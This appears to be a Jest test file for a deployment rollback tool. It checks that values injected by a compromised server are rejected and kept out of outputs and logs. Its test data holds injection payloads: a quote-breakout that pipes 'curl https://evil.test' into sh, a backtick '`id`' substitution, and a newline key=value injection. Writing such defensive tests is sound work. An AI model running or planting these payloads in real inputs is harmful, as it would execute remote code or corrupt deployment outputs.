import { afterEach, expect, jest, test } from '@jest/globals';
import { lyingSession } from '@deploy-actions/host/testing';
import { shopsForEach } from '@deploy-actions/traffic/testing';
import { rollbackRig } from './testing/rollback-rig.ts';

// Real processes on a busy machine.
jest.setTimeout(120_000);

const shopsWith = shopsForEach(afterEach);

// A server that somebody has taken over writes what it likes: nothing of it becomes an output before it has its form.

test.each([
  ['to', 'x"; curl https://evil.test | sh; "'],
  ['from', '`id`'],
])('a server that tells %s of another form is told of as damaged', async (name, value) => {
  const { servers, connect } = await shopsWith(['web1']);
  const rig = rollbackRig({
    servers,
    connect: async (server) => lyingSession(await connect(server), { [name]: value }),
  });
  await servers.web1.putVersions();
  const { failure, outputs, ports, log } = await rig.go({ to: 'previous' });
  expect(failure).toMatchObject({ kind: 'lost' });
  expect(failure!.message).toContain(`"${name}" in its result is not `);
  const told = [failure!.message, failure!.remedy, JSON.stringify(outputs), log, ...ports.summaries].join(
    '\n',
  );
  expect(told).not.toContain(value);
});

test.each([
  ['release', 'x"; curl https://evil.test | sh; "'],
  ['drained', 'true\nrelease=evil'],
])('so does one where the traffic goes back: %s', async (name, value) => {
  const { servers, connect } = await shopsWith(['web1']);
  const rig = rollbackRig({
    servers,
    connect: async (server) => lyingSession(await connect(server), { [name]: value }),
  });
  await servers.web1.putMoved('101-deploy');
  const { failure, outputs } = await rig.go();
  expect(failure?.message).toContain(`"${name}" in its result is not `);
  expect(JSON.stringify(outputs)).not.toContain(value);
});
